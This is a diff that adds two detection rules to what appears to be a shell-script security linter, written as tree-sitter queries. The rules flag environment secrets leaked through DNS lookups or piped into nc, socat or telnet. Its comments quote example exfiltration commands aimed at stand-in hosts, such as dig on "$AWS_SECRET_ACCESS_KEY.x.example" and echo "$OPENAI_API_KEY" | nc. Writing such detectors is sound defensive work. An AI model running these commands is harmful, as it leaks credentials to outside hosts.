@@ -68,6 +68,27 @@
  (#set! severity "warn")
  (#set! message "opens a network connection"))
 
+; dig "$AWS_SECRET_ACCESS_KEY.x.example", nslookup "$(printenv TOKEN |
+; base64).x.example": a secret of the environment sent out as a name to look
+; up (DNS carries it even where nothing else may connect)
+((command argument: (_) @arg) @n @finding
+ (#resolves-to? @n "nslookup|dig|host|drill|kdig|delv|ping|ping6")
+ (#match? @arg "\\$\\{?[A-Za-z0-9_]*(?i:secret|token|passw(or)?d|api_?key|access_?key|private_?key|credential)|printenv|(^|[^\\w-])env([^\\w-]|$)")
+ (#set! id "sh-secret-exfil")
+ (#set! severity "high")
+ (#set! message "puts a secret of the environment into a host name it looks up: sent out through DNS"))
+
+; printf %s "$AWS_SECRET_ACCESS_KEY" | base64 | xargs -I{} dig {}.x.example,
+; echo "$OPENAI_API_KEY" | nc h 9: a secret piped into a lookup or a raw
+; connection (curl and wget are left out: an API token in a request body
+; is how OAuth and many APIs take it)
+((pipeline) @finding
+ (#match? @finding "\\$\\{?[A-Za-z0-9_]*(?i:secret|token|passw(or)?d|api_?key|access_?key|private_?key|credential)")
+ (#contains-call? @finding "nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|nslookup|dig|host|drill|kdig|delv")
+ (#set! id "sh-secret-exfil")
+ (#set! severity "high")
+ (#set! message "pipes a secret of the environment into a name lookup or a raw network connection"))
+
 ; openssl s_client -connect h:443: a TLS connection (what is piped into it
 ; is sent)
 ((command argument: (_) @arg) @n @finding
